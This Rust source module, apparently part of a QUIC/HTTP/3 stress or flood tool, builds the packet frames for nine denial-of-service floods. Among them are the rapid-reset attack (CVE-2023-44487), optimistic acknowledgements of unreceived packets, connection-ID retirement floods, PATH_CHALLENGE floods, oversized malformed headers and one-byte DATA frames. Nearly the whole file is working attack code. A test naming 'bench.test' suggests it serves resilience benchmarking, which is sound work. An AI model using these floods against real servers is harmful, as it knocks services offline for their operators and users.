//! What each flood sends: the frames of its next packet.

use super::frames::{ack, cancel, field_section, http3, new_connection_id, stream, varint};
use super::link::{FRAMES_MAX, ID_BYTES, Link};

/// A flood over QUIC.
#[derive(Clone, Copy, Debug, PartialEq, Eq, clap::ValueEnum)]
pub enum Kind {
    /// Request streams that end at once, empty
    Streams,
    /// Malformed heads of 12 KiB
    Headers,
    /// Heads of 15 KiB, a little too large
    LargeHeaders,
    /// Requests and their cancellation (CVE-2023-44487)
    Resets,
    /// Packets with one PING
    Pings,
    /// New connection IDs, each retiring all before it
    NewConnectionIds,
    /// Packets full of PATH_CHALLENGE
    PathChallenges,
    /// DATA frames of one byte
    TinyFrames,
    /// Acknowledgements of packets that did not come
    OptimisticAcks,
}

const HEADERS: u64 = 1;
/// Fields of 240 bytes as limits count them (name, value, 32): under 16 KiB, so that all is read before it is refused…
const FILLERS: usize = 60;
/// … and over it, but not over twice of it.
const TOO_MANY_FILLERS: usize = 72;

/// Where a flood stands on its connection.
pub struct Flood {
    kind: Kind,
    /// The head of a request, as its HEADERS frame.
    head: Vec<u8>,
    /// The next request's number.
    next: u64,
    /// Bytes sent on the current stream, and on all of them.
    on_stream: u64,
    on_all: u64,
}

impl Flood {
    /// The flood on a new connection.
    pub fn new(kind: Kind, authority: &str, path: &str) -> Self {
        let method = if matches!(kind, Kind::Resets | Kind::TinyFrames) { "POST" } else { "GET" };
        let pseudo = [(":method", method), (":scheme", "https"), (":authority", authority), (":path", path)];
        let mut section = field_section(pseudo);
        // What is wrong with a head comes last.
        let (fillers, last) = match kind {
            Kind::Headers => (FILLERS, Some(("X-Upper", "1"))),
            Kind::LargeHeaders => (TOO_MANY_FILLERS, None),
            _ => (0, None),
        };
        let filler = "x".repeat(200);
        let fields = std::iter::repeat_n(("x-filler", filler.as_str()), fillers).chain(last);
        section.extend_from_slice(&field_section(fields)[2..]);
        let mut head = Vec::new();
        http3(&mut head, HEADERS, &section);
        Self { kind, head, next: 0, on_stream: 0, on_all: 0 }
    }

    /// Whether what came is acknowledged as it should be.
    pub fn is_honest(&self) -> bool {
        self.kind != Kind::OptimisticAcks
    }

    /// The frames of the next packet; false: the server's credit is used up.
    pub fn fill(&mut self, link: &mut Link, out: &mut Vec<u8>) -> bool {
        match self.kind {
            Kind::Streams => {
                while out.len() + 16 < FRAMES_MAX && self.next < link.credit.streams {
                    stream(out, 4 * self.next, 0, b"", true);
                    self.next += 1;
                }
            }
            Kind::Resets => {
                while out.len() + self.head.len() + 48 < FRAMES_MAX && self.next < link.credit.streams {
                    stream(out, 4 * self.next, 0, &self.head, false);
                    cancel(out, 4 * self.next, self.head.len() as u64);
                    self.next += 1;
                }
            }
            Kind::Headers | Kind::LargeHeaders => self.fill_heads(link, out),
            Kind::Pings => out.push(0x01),
            Kind::NewConnectionIds => {
                while out.len() + ID_BYTES + 32 < FRAMES_MAX {
                    self.next += 1;
                    // Behind the few that quiche gave out.
                    let mut id = [0x5a; ID_BYTES];
                    id[8..].copy_from_slice(&self.next.to_be_bytes());
                    new_connection_id(out, 16 + self.next, &id);
                }
            }
            Kind::PathChallenges => {
                while out.len() + 9 < FRAMES_MAX {
                    self.next += 1;
                    out.push(0x1a);
                    out.extend_from_slice(&self.next.to_be_bytes());
                }
            }
            Kind::TinyFrames => self.fill_data(link, out),
            Kind::OptimisticAcks => {
                if self.next == 0 {
                    stream(out, 0, 0, &self.head, true);
                }
                self.next += 1;
                let seen = link.ranges.last().map_or(0, |range| range.1);
                ack(out, &[(0, seen + self.next % 64)]);
            }
        }
        !out.is_empty()
    }

    /// A piece of a large head; the last piece ends its stream.
    fn fill_heads(&mut self, link: &Link, out: &mut Vec<u8>) {
        let at = self.on_stream as usize;
        let piece = &self.head[at..self.head.len().min(at + FRAMES_MAX - 24)];
        if self.next >= link.credit.streams || self.on_all + piece.len() as u64 > link.credit.data {
            return;
        }
        let last = at + piece.len() == self.head.len();
        stream(out, 4 * self.next, self.on_stream, piece, last);
        self.on_all += piece.len() as u64;
        self.on_stream = if last { 0 } else { self.on_stream + piece.len() as u64 };
        self.next += u64::from(last);
    }

    /// The head of one request, then its body a byte at a time.
    fn fill_data(&mut self, link: &Link, out: &mut Vec<u8>) {
        let mut data = Vec::with_capacity(FRAMES_MAX);
        if self.on_stream == 0 {
            data.extend_from_slice(&self.head);
        }
        while data.len() + 24 < FRAMES_MAX {
            varint(&mut data, 0);
            varint(&mut data, 1);
            data.push(b'a');
        }
        if self.on_stream + data.len() as u64 > link.credit.stream_data.min(link.credit.data) {
            return;
        }
        stream(out, 0, self.on_stream, &data, false);
        self.on_stream += data.len() as u64;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn heads_are_as_large_as_they_should_be() {
        // As limits count them: 16 KiB by default, and the library stops at twice of it.
        let counted = |fillers: usize| fillers * ("x-filler".len() + 200 + 32);
        assert!(counted(FILLERS) < 15 << 10);
        assert!((16 << 10..32 << 10).contains(&counted(TOO_MANY_FILLERS)));
        let wire = |kind| Flood::new(kind, "bench.test", "/").head.len();
        assert!(wire(Kind::Pings) < 100 && wire(Kind::Headers) > FILLERS * 208);
        assert_eq!(wire(Kind::LargeHeaders) / 1000, 15);
    }
}
